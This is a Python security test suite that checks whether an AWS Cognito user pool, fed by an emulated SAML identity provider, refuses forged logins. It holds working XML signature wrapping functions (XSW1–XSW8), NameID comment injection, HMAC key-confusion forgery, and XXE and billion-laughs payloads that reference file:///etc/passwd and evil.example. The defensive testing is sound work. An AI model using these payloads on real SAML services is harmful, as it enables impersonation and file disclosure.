"""A SAML response logs in whom its signature names, for this pool, this request and now; nothing around the signature counts.

Source: SAML 2.0 Profiles section 4.1.4; "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), whose eight ways of wrapping
are ``XSW1`` to ``XSW8``; CVE-2017-11427 and its siblings (a comment inside a name).
"""

from __future__ import annotations

import base64
import copy
import zlib
from collections.abc import Callable, Iterator

import pytest
import requests
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from lxml import etree

from tests.attacks.against import COGNITO
from tests.attacks.conftest import Attack
from tests.attacks.emulation import Emulation
from tests.attacks.vendors import Cognito, Login, Vendor
from tests.browser import parameters_of
from tests.emulator.aws.saml_idp import EMAIL, SAML, SAMLP, SamlIdp, encoded, instant, key_pair, request_in
from tests.relying_party import Person

DS = "http://www.w3.org/2000/09/xmldsig#"
EVIL = "mallory"
Tree = etree._Element
Change = Callable[[Tree], Tree]


class Corp:
    """A pool whose only way in is the SAML provider, and a browser for each try."""

    def __init__(self, vendor: Cognito) -> None:
        self.vendor = vendor
        self.idp = SamlIdp()
        self.pool = vendor.make_pool("corp")
        self.idp.add_to(vendor, self.pool)  # type: ignore[arg-type]
        self.login: Login = vendor.register(pool=self.pool, SupportedIdentityProviders=["Corp"])

    def leave(self, person: Person) -> tuple[Tree, str]:
        """The request that the browser is sent with, and its ``RelayState``."""
        return request_in(person.open(self.login.begin().url).headers["Location"])

    def post(self, person: Person, response: Tree | str, relay_state: str) -> requests.Response:
        body = response if isinstance(response, str) else encoded(response)
        address = f"{self.vendor.base}/corp/saml2/idpresponse"
        form = {"SAMLResponse": body, "RelayState": relay_state}
        return person.session.post(address, data=form, allow_redirects=False, timeout=20)

    def people(self) -> set[str]:
        return {user["Username"] for user in self.vendor.cognito.list_users(UserPoolId=self.pool)["Users"]}

    def try_in(self, make: Callable[[Tree], Tree | str]) -> requests.Response:
        person = self.login.person()
        request, relay_state = self.leave(person)
        return self.post(person, make(request), relay_state)


_kept: list[Corp] = []


@pytest.fixture
def corp(vendors: dict[str, Vendor]) -> Corp:
    if not _kept:
        vendor = vendors[COGNITO]
        assert isinstance(vendor, Cognito)
        _kept.append(Corp(vendor))
    _kept[0].idp.name_id = "ada-name-id"
    return _kept[0]


@pytest.fixture
def people(corp: Corp) -> Iterator[set[str]]:
    """Nobody new is there after the attack."""
    before = corp.people()
    yield before
    assert corp.people() == before


def refused(answer: requests.Response) -> str:
    """What the app is told."""
    if not answer.is_redirect:
        assert answer.status_code == 400, answer.text
        return ""
    parameters = parameters_of(answer.headers["Location"])
    assert "code" not in parameters
    assert parameters["error"] == "server_error"
    return parameters["error_description"]


def assertion_of(response: Tree) -> Tree:
    found = response.find(f"{{{SAML}}}Assertion")
    assert found is not None
    return found


def signature_of(element: Tree) -> Tree:
    found = element.find(f"{{{DS}}}Signature")
    assert found is not None
    return found


def evil(element: Tree, identifier: str | None = "_evil") -> Tree:
    """A copy without a signature that names somebody else."""
    other = copy.deepcopy(element)
    for signature in list(other.iter(f"{{{DS}}}Signature")):
        signature.getparent().remove(signature)
    for name in other.iter(f"{{{SAML}}}NameID"):
        name.text = EVIL
    for value in other.iter(f"{{{SAML}}}AttributeValue"):
        value.text = f"{EVIL}@evil.example"
    if identifier:
        other.set("ID", identifier)
    return other


def unsigned(element: Tree) -> Tree:
    """A copy as it was, without its signature."""
    other = copy.deepcopy(element)
    other.remove(signature_of(other))
    return other


def xsw1(response: Tree) -> Tree:
    """An evil response around the signed one, which hangs in the signature."""
    signature, outer, original = signature_of(response), evil(response), unsigned(response)
    moved = copy.deepcopy(signature)
    moved.append(original)
    outer.insert(1, moved)
    return outer


def xsw2(response: Tree) -> Tree:
    """The same with the signature detached, after the original."""
    signature, outer, original = signature_of(response), evil(response), unsigned(response)
    outer.insert(1, original)
    outer.insert(2, copy.deepcopy(signature))
    return outer


def xsw3(response: Tree) -> Tree:
    """An evil assertion in front of the signed one."""
    response.insert(0, evil(assertion_of(response)))
    return response


def xsw4(response: Tree) -> Tree:
    """An evil assertion around the signed one."""
    signed = assertion_of(response)
    outer = evil(signed)
    response.replace(signed, outer)
    outer.append(signed)
    return response


def xsw5(response: Tree) -> Tree:
    """The signed assertion changed, and the original at the end."""
    signed = assertion_of(response)
    original = unsigned(signed)
    changed = evil(signed)
    changed.insert(1, copy.deepcopy(signature_of(signed)))
    response.replace(signed, changed)
    response.append(original)
    return response


def xsw6(response: Tree) -> Tree:
    """The signed assertion changed, and the original in its signature."""
    signed = assertion_of(response)
    original = unsigned(signed)
    changed = evil(signed)
    signature = copy.deepcopy(signature_of(signed))
    signature.append(original)
    changed.insert(1, signature)
    response.replace(signed, changed)
    return response


def xsw7(response: Tree) -> Tree:
    """An evil assertion in an extension, in front."""
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(evil(assertion_of(response)))
    response.insert(0, extensions)
    return response


def xsw8(response: Tree) -> Tree:
    """The signed assertion changed, and the original in an object of its signature."""
    signed = assertion_of(response)
    original = unsigned(signed)
    changed = evil(signed)
    signature = copy.deepcopy(signature_of(signed))
    etree.SubElement(signature, f"{{{DS}}}Object").append(original)
    changed.insert(1, signature)
    response.replace(signed, changed)
    return response


def _same_identifier(wrap: Change) -> Change:
    """The same wrapping, with one ``ID`` for both."""

    def wrapped(response: Tree) -> Tree:
        signed = response.find(f"{{{SAML}}}Assertion")
        identifier = (signed if signed is not None and signed.find(f"{{{DS}}}Signature") is not None else response).get(
            "ID"
        )
        result = wrap(response)
        for element in result.iter(f"{{{SAML}}}Assertion", f"{{{SAMLP}}}Response"):
            if element.get("ID") == "_evil":
                element.set("ID", str(identifier))
        return result

    return wrapped


_WRAPPINGS: dict[str, tuple[bool, Change]] = {
    "xsw1": (True, xsw1),
    "xsw2": (True, xsw2),
    **{f"xsw{number}": (False, wrap) for number, wrap in enumerate((xsw3, xsw4, xsw5, xsw6, xsw7, xsw8), 3)},
}
WRAPPINGS = {
    **_WRAPPINGS,
    **{f"{name}-same-id": (whole, _same_identifier(wrap)) for name, (whole, wrap) in _WRAPPINGS.items()},
}
"""By name: whether the response itself is signed, and what is done with it."""


@pytest.mark.control
@pytest.mark.parametrize("whole", [True, False], ids=["response-signed", "assertion-signed"])
def test_an_honest_response_logs_in(corp: Corp, whole: bool) -> None:
    answer = corp.try_in(
        lambda request: corp.idp.sign(corp.idp.response(request)) if whole else corp.idp.signed(request)
    )
    assert "code" in parameters_of(answer.headers["Location"])
    assert "Corp_ada-name-id" in corp.people()


@pytest.mark.parametrize("name", WRAPPINGS)
def test_a_wrapped_response_logs_nobody_else_in(corp: Corp, name: str, attack: Attack) -> None:
    """Either it is refused, or what was signed is what is read."""
    whole, wrap = WRAPPINGS[name]
    with attack:
        answer = corp.try_in(
            lambda request: wrap(corp.idp.sign(corp.idp.response(request)) if whole else corp.idp.signed(request))
        )
        assert f"Corp_{EVIL}" not in corp.people()
        parameters = parameters_of(answer.headers["Location"])
        if "code" in parameters:
            users = corp.vendor.cognito.list_users(UserPoolId=corp.pool)["Users"]
            assert EVIL not in str(users)
        else:
            assert parameters["error"] == "server_error"


def _without(path: str) -> Change:
    def change(response: Tree) -> Tree:
        for element in response.findall(f".//{path}"):
            element.getparent().remove(element)
        return response

    return change


def _text(path: str, text: str) -> Change:
    def change(response: Tree) -> Tree:
        element = response.find(f".//{path}")
        assert element is not None
        element.text = text
        return response

    return change


def _attribute(path: str, name: str, value: str) -> Change:
    def change(response: Tree) -> Tree:
        element = response.find(f".//{path}") if path != "." else response
        assert element is not None
        element.set(name, value)
        return response

    return change


def _transform(algorithm: str) -> Change:
    def change(response: Tree) -> Tree:
        transforms = response.find(f".//{{{DS}}}Transforms")
        assert transforms is not None
        etree.SubElement(transforms, f"{{{DS}}}Transform", Algorithm=algorithm)
        return response

    return change


def _second_reference(response: Tree) -> Tree:
    reference = response.find(f".//{{{DS}}}Reference")
    assert reference is not None
    reference.addnext(copy.deepcopy(reference))
    return response


def _second_signature(response: Tree) -> Tree:
    signature = response.find(f".//{{{DS}}}Signature")
    assert signature is not None
    signature.addnext(copy.deepcopy(signature))
    return response


def _named(tag: str) -> Change:
    """Renames the assertion, so that a reader by position finds it and one by name does not."""

    def change(response: Tree) -> Tree:
        assertion_of(response).tag = f"{{{SAML}}}{tag}"
        return response

    return change


def _in_another_namespace(response: Tree) -> Tree:
    assertion_of(response).tag = "{urn:evil}Assertion"
    return response


TAMPERED: dict[str, Change] = {
    "signature-removed": _without(f"{{{DS}}}Signature"),
    "signature-value-removed": _without(f"{{{DS}}}SignatureValue"),
    "signature-value-emptied": _text(f"{{{DS}}}SignatureValue", ""),
    "signature-value-of-zeros": _text(f"{{{DS}}}SignatureValue", base64.b64encode(bytes(256)).decode()),
    "digest-emptied": _text(f"{{{DS}}}DigestValue", ""),
    "signed-info-removed": _without(f"{{{DS}}}SignedInfo"),
    "reference-removed": _without(f"{{{DS}}}Reference"),
    "reference-to-everything": _attribute(f"{{{DS}}}Reference", "URI", ""),
    "reference-to-nothing": _attribute(f"{{{DS}}}Reference", "URI", "#nothing"),
    "reference-outside": _attribute(f"{{{DS}}}Reference", "URI", "file:///etc/passwd"),
    "reference-to-the-web": _attribute(f"{{{DS}}}Reference", "URI", "https://evil.example/"),
    "reference-by-xpointer": _attribute(f"{{{DS}}}Reference", "URI", "#xpointer(/)"),
    "two-references": _second_reference,
    "two-signatures": _second_signature,
    "sha1": _attribute(f"{{{DS}}}SignatureMethod", "Algorithm", "http://www.w3.org/2000/09/xmldsig#rsa-sha1"),
    "hmac": _attribute(f"{{{DS}}}SignatureMethod", "Algorithm", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"),
    "no-method": _without(f"{{{DS}}}SignatureMethod"),
    "digest-sha1": _attribute(f"{{{DS}}}DigestMethod", "Algorithm", "http://www.w3.org/2000/09/xmldsig#sha1"),
    "digest-md5": _attribute(f"{{{DS}}}DigestMethod", "Algorithm", "http://www.w3.org/2001/04/xmldsig-more#md5"),
    "transform-xslt": _transform("http://www.w3.org/TR/1999/REC-xslt-19991116"),
    "transform-xpath": _transform("http://www.w3.org/TR/1999/REC-xpath-19991116"),
    "transform-base64": _transform("http://www.w3.org/2000/09/xmldsig#base64"),
    "name-changed": _text(f"{{{SAML}}}NameID", EVIL),
    "attribute-changed": _text(f"{{{SAML}}}AttributeValue", "mallory@evil.example"),
    "audience-removed": _without(f"{{{SAML}}}AudienceRestriction"),
    "conditions-removed": _without(f"{{{SAML}}}Conditions"),
    "identifier-changed": _attribute(f"{{{SAML}}}Assertion", "ID", "_other"),
    "identifier-removed": lambda response: (assertion_of(response).attrib.pop("ID"), response)[1],
    "statement-added": lambda response: (
        etree.SubElement(assertion_of(response), f"{{{SAML}}}AttributeStatement"),
        response,
    )[1],
    "assertion-renamed": _named("Advice"),
    "assertion-of-another-namespace": _in_another_namespace,
    "assertion-removed": _without(f"{{{SAML}}}Assertion"),
    "encrypted-beside": lambda response: (etree.SubElement(response, f"{{{SAML}}}EncryptedAssertion"), response)[1],
    "status-removed": _without(f"{{{SAMLP}}}Status"),
    "status-failed": _attribute(f"{{{SAMLP}}}StatusCode", "Value", "urn:oasis:names:tc:SAML:2.0:status:Responder"),
    "envelope-issuer-changed": _text(f"{{{SAML}}}Issuer", "https://evil.example"),
    "envelope-destination-changed": _attribute(".", "Destination", "https://evil.example/acs"),
    "envelope-of-another-request": _attribute(".", "InResponseTo", "_another"),
    "another-message": lambda response: (setattr(response, "tag", f"{{{SAMLP}}}LogoutResponse"), response)[1],
}


@pytest.mark.parametrize("change", TAMPERED.values(), ids=TAMPERED)
def test_a_response_that_was_changed_logs_nobody_in(
    corp: Corp, change: Change, people: set[str], attack: Attack
) -> None:
    with attack:
        refused(corp.try_in(lambda request: change(corp.idp.signed(request))))


HONESTLY_SIGNED: dict[str, dict[str, str | None]] = {
    "another-issuer": {"issuer": "https://elsewhere.example"},
    "another-audience": {"audience": "urn:amazon:cognito:sp:eu-west-1_another12"},
    "longer-audience": {"audience": "urn:amazon:cognito:sp:eu-west-1_another12urn"},
    "no-audience": {"audience": None},
    "another-recipient": {"recipient": "https://elsewhere.example/acs"},
    "another-destination": {"destination": "https://elsewhere.example/acs"},
    "another-request": {"in_response_to": "_another-request"},
    "no-request": {"in_response_to": None},
    "holder-of-key": {"method": "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"},
    "sender-vouches": {"method": "urn:oasis:names:tc:SAML:2.0:cm:sender-vouches"},
    "not-yet": {"begins": "2100-01-01T00:00:00Z"},
    "ended": {"ends": "2020-01-01T00:00:00Z"},
    "ended-just-now": {"ends": instant(-61)},
    "end-that-is-none": {"ends": "soon"},
    "end-in-another-zone": {"ends": "2100-01-01T00:00:00+14:00"},
    "begins-that-is-none": {"begins": "0000-00-00T00:00:00Z"},
    "no-name": {"name_id": ""},
    "blank-name": {"name_id": "  "},
    "refused": {"status": "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"},
}


@pytest.mark.parametrize("changes", HONESTLY_SIGNED.values(), ids=HONESTLY_SIGNED)
def test_a_response_that_is_not_of_this_login_logs_nobody_in(
    corp: Corp, changes: dict[str, str | None], people: set[str], attack: Attack
) -> None:
    with attack:
        refused(corp.try_in(lambda request: corp.idp.signed(request, **changes)))


def test_another_key_signs_nothing_though_it_brings_its_certificate(
    corp: Corp, people: set[str], attack: Attack
) -> None:
    with attack:
        refused(corp.try_in(lambda request: corp.idp.signed(request, signer="stranger")))
    with attack:
        refused(corp.try_in(lambda request: corp.idp.sign(corp.idp.response(request), "stranger")))


def test_the_certificate_taken_for_a_shared_secret_signs_nothing(corp: Corp, people: set[str], attack: Attack) -> None:
    from signxml.algorithms import SignatureMethod
    from signxml.signer import XMLSigner

    secrets = (
        corp.idp.certificate.public_bytes(Encoding.PEM),
        corp.idp.certificate.public_bytes(Encoding.DER),
        corp.idp.key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        b"",
    )
    for secret in secrets:

        def forged(request: Tree, secret: bytes = secret) -> Tree:
            response = corp.idp.response(request, name_id=EVIL)
            assertion = etree.fromstring(etree.tostring(assertion_of(response)))
            signer = XMLSigner(
                signature_algorithm=SignatureMethod.HMAC_SHA256,
                c14n_algorithm="http://www.w3.org/2001/10/xml-exc-c14n#",
            )
            signed = signer.sign(assertion, key=secret or b"\0", reference_uri=assertion.get("ID"), id_attribute="ID")
            response.replace(assertion_of(response), signed)
            return response

        with attack:
            refused(corp.try_in(forged))


NAMES = {
    "comment": ("ada-name-id<!-- -->.evil.example", "ada-name-id.evil.example"),
    "comment-in-front": ("<!-- -->ada-name-id.evil.example", "ada-name-id.evil.example"),
    "instruction": ("ada-name-id<?x y?>.evil.example", "ada-name-id.evil.example"),
    "cdata": ("ada-name-id<![CDATA[.evil.example]]>", "ada-name-id.evil.example"),
    "element": ("ada-name-id<x>.evil.example</x>", "ada-name-id.evil.example"),
    "entity": ("ada-name-id&#x2e;evil.example", "ada-name-id.evil.example"),
}


@pytest.mark.parametrize(("written", "read"), NAMES.values(), ids=NAMES)
def test_a_name_is_read_whole(corp: Corp, written: str, read: str, attack: Attack) -> None:
    """Whoever can choose a longer name that begins with somebody's is not taken for them."""
    corp.idp.name_id = written
    with attack:
        answer = corp.try_in(corp.idp.signed)
        tokens = _redeemed(corp, answer)
        assert tokens["cognito:username"] == f"Corp_{read}"


def _redeemed(corp: Corp, answer: requests.Response) -> dict[str, str]:
    """Who the app is told has logged in, by the pool's own list."""
    assert "code" in parameters_of(answer.headers["Location"])
    newest = max(
        corp.vendor.cognito.list_users(UserPoolId=corp.pool)["Users"], key=lambda user: user["UserLastModifiedDate"]
    )
    return {"cognito:username": newest["Username"]}


def _document(prefix: str, encoding: str = "utf-8") -> Callable[[Corp, Tree], str]:
    def make(corp: Corp, request: Tree) -> str:
        plain = etree.tostring(corp.idp.signed(request)).decode()
        return base64.b64encode((prefix + plain).encode(encoding)).decode()

    return make


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DOCUMENTS: dict[str, Callable[[Corp, Tree], str]] = {
    "external-entity": _document('<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    "external-type": _document('<!DOCTYPE r SYSTEM "https://evil.example/r.dtd">'),
    "parameter-entity": _document('<!DOCTYPE r [<!ENTITY % e SYSTEM "https://evil.example/"> %e;]>'),
    "billion-laughs": _document(f'<!DOCTYPE r [<!ENTITY l0 "lol">{_LAUGHS}]>'),
    "harmless-type": _document("<!DOCTYPE r>"),
    "identifiers-by-type": _document("<!DOCTYPE r [<!ATTLIST saml:Assertion ID ID #IMPLIED>]>"),
    "utf-16-type": _document('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE r [<!ENTITY e "x">]>', "utf-16"),
    "utf-7": _document('<?xml version="1.0" encoding="utf-7"?>', "utf-7"),
    "unknown-encoding": _document('<?xml version="1.0" encoding="x-evil"?>'),
    "garbage-in-front": _document("garbage"),
    "not-base64": lambda *_: "%%%",
    "empty": lambda *_: "",
    "not-xml": lambda *_: base64.b64encode(b"<a>").decode(),
    "no-text": lambda *_: base64.b64encode(bytes(range(256))).decode(),
    "compressed": lambda corp, request: base64.b64encode(
        zlib.compress(etree.tostring(corp.idp.signed(request)))
    ).decode(),
    "huge": lambda *_: base64.b64encode(b"<a>" + b"x" * 600_000 + b"</a>").decode(),
    "deep": lambda *_: base64.b64encode(b"<a>" * 20_000 + b"</a>" * 20_000).decode(),
    "twice": lambda corp, request: base64.b64encode(encoded(corp.idp.signed(request)).encode()).decode(),
}


@pytest.mark.parametrize("make", DOCUMENTS.values(), ids=DOCUMENTS)
def test_a_document_that_is_more_than_a_document_logs_nobody_in(
    corp: Corp, make: Callable[[Corp, Tree], str], people: set[str], attack: Attack
) -> None:
    with attack:
        answer = corp.try_in(lambda request: make(corp, request))
        told = refused(answer)
        assert "root:" not in told
        assert "root:" not in answer.text


class TestReplay:
    def test_a_response_is_used_once(self, corp: Corp, attack: Attack) -> None:
        person = corp.login.person()
        request, relay_state = corp.leave(person)
        response = corp.idp.signed(request)
        assert "code" in parameters_of(corp.post(person, response, relay_state).headers["Location"])
        with attack:
            refused(corp.post(person, response, relay_state))
        other = corp.login.person()
        _, second = corp.leave(other)
        with attack:
            refused(corp.post(other, response, second))

    def test_a_response_to_another_request_is_none(self, corp: Corp, attack: Attack) -> None:
        victim, thief = corp.login.person(), corp.login.person()
        theirs, _ = corp.leave(thief)
        _, relay_state = corp.leave(victim)
        with attack:
            refused(corp.post(victim, corp.idp.signed(theirs), relay_state))

    def test_a_response_is_of_the_browser_that_was_sent(self, corp: Corp, attack: Attack) -> None:
        person = corp.login.person()
        request, relay_state = corp.leave(person)
        with attack:
            refused(corp.post(corp.login.person(), corp.idp.signed(request), relay_state))

    @pytest.mark.parametrize("relay_state", ["", "x", "https://evil.example/", "' OR 1=1 --"])
    def test_a_response_that_nobody_asked_for_is_none(self, corp: Corp, relay_state: str, attack: Attack) -> None:
        person = corp.login.person()
        request, _ = corp.leave(person)
        with attack:
            answer = corp.post(person, corp.idp.signed(request), relay_state)
            refused(answer)
            assert "evil" not in answer.headers.get("Location", "")

    def test_a_response_that_comes_late_is_none(self, corp: Corp, emulation: Emulation, attack: Attack) -> None:
        person = corp.login.person()
        request, relay_state = corp.leave(person)
        response = corp.idp.signed(request)
        with attack, emulation.later(301):
            refused(corp.post(person, response, relay_state))

    def test_a_response_of_another_pool_s_provider_is_none(self, corp: Corp, attack: Attack) -> None:
        """The same provider serves two pools; an assertion for one is none for the other."""
        person = corp.login.person()
        request, relay_state = corp.leave(person)
        with attack:
            audience = f"urn:amazon:cognito:sp:{corp.vendor.other_pool}"
            refused(corp.post(person, corp.idp.signed(request, audience=audience), relay_state))

    def test_a_provider_s_key_is_that_provider_s(self, corp: Corp, attack: Attack) -> None:
        """Two providers of one pool: what the one signs is not believed of the other."""
        other = SamlIdp()
        other.entity_id = "https://other-idp.example/entity"
        other.key, other.certificate = key_pair("other-idp")
        other.add_to(corp.vendor, corp.pool, "OtherCorp")  # type: ignore[arg-type]
        corp.idp.attributes[EMAIL] = ["ada@partner.example"]
        for issuer in (corp.idp.entity_id, other.entity_id):
            with attack:
                refused(
                    corp.try_in(lambda request, issuer=issuer: corp.idp.signed(request, "other-idp", issuer=issuer))
                )
